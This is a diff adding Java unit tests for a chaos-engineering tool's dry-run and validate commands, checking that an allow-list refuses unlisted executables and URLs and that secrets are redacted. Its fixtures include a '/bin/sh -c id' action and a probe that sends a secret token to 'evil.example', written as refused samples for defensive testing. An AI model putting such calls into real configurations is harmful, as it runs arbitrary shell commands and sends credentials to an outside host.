@@ -113,6 +113,122 @@ class ExperimentCommandTest {
   }
 
   @Test
+  @DisplayName(
+      "A dry run shows which executables and URLs the allow-list refuses, naming chaos.allow.executables and chaos.allow.urls, and passes those --allow lists")
+  void dryRunProviders(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
+    java.nio.file.Path file = dir.resolve("calls.yaml");
+    java.nio.file.Files.writeString(
+        file,
+        """
+        title: calls
+        method:
+          - {type: action, name: say, provider: {type: process, path: /bin/echo, arguments: hi}}
+          - {type: action, name: shell, provider: {type: process, path: /bin/sh, arguments: [-c, id]}}
+          - {type: probe, name: health, provider: {type: http, url: "http://localhost:9090/health"}}
+          - {type: probe, name: leak, provider: {type: http, url: "https://evil.example/"}}
+        """);
+
+    int code =
+        run(
+            "run",
+            "--dry-run",
+            "--allow",
+            "executable=/bin/echo",
+            "--allow",
+            "url=http://localhost:9090/",
+            file.toString());
+
+    assertThat(code).isEqualTo(1);
+    assertThat(out.toString())
+        .contains(
+            "the allow-list refuses:",
+            "shell: process /bin/sh is not on the allow-list of executables (chaos.allow.executables)",
+            "leak: URL https://evil.example/ is not on the allow-list of URL prefixes (chaos.allow.urls)")
+        .doesNotContain("say: process", "health: URL");
+
+    out.getBuffer().setLength(0);
+    assertThat(
+            run(
+                "run",
+                "--dry-run",
+                "--allow",
+                "executable=/bin/echo",
+                "--allow",
+                "executable=/bin/sh",
+                "--allow",
+                "url=http://localhost:9090/",
+                "--allow",
+                "url=https://evil.example/",
+                file.toString()))
+        .isZero();
+    assertThat(out.toString())
+        .contains("every fault target, executable and URL is on the allow-list");
+  }
+
+  @Test
+  @DisplayName("A dry run hides the experiment's secrets in the plan and in what it refuses")
+  void dryRunHidesSecrets(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
+      throws Exception {
+    java.nio.file.Path file = dir.resolve("secret.yaml");
+    java.nio.file.Files.writeString(
+        file,
+        """
+        title: secret
+        secrets: {api: {token: hunter2-secret}}
+        method:
+          - {type: action, name: send, secrets: [api],
+             provider: {type: process, path: /bin/echo, arguments: ["${token}"]}}
+          - {type: probe, name: call, secrets: [api],
+             provider: {type: http, url: "https://evil.example/?t=${token}"}}
+        """);
+
+    run("run", "--dry-run", file.toString());
+    run("run", "--dry-run", "--json", file.toString());
+
+    assertThat(out.toString()).doesNotContain("hunter2-secret").contains("[redacted]");
+  }
+
+  @Test
+  @DisplayName(
+      "validate with a configuration lists the process and http calls its allow-list refuses as problems and exits 1; without one it checks the document only")
+  void validateWithConfig(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
+      throws Exception {
+    java.nio.file.Path file = dir.resolve("calls.yaml");
+    java.nio.file.Files.writeString(
+        file,
+        """
+        title: calls
+        method:
+          - {type: action, name: shell, provider: {type: process, path: /bin/sh, arguments: [-c, id]}}
+        """);
+    java.nio.file.Path config = dir.resolve("valentia.yaml");
+    java.nio.file.Files.writeString(config, "chaos:\n  allow:\n    executables: [/usr/bin/curl]\n");
+
+    assertThat(run("validate", file.toString())).isZero();
+    assertThat(run("validate", "--config", config.toString(), file.toString())).isEqualTo(1);
+    assertThat(out.toString())
+        .contains(
+            "method[0].provider.path: shell: process /bin/sh is not on the allow-list of"
+                + " executables (chaos.allow.executables)");
+    assertThat(run("validate", "--allow", "executable=/bin/sh", "--json", file.toString()))
+        .isZero();
+  }
+
+  @Test
+  @DisplayName("--allow executable= takes an absolute path only")
+  void badExecutable() {
+    assertThat(
+            run(
+                "run",
+                "--dry-run",
+                "--allow",
+                "executable=sh",
+                "src/test/resources/experiments/every-feature.yaml"))
+        .isEqualTo(2);
+    assertThat(err.toString()).contains("must be an absolute path");
+  }
+
+  @Test
   @DisplayName("--allow with an unknown kind is bad usage")
   void badAllow() {
     assertThat(
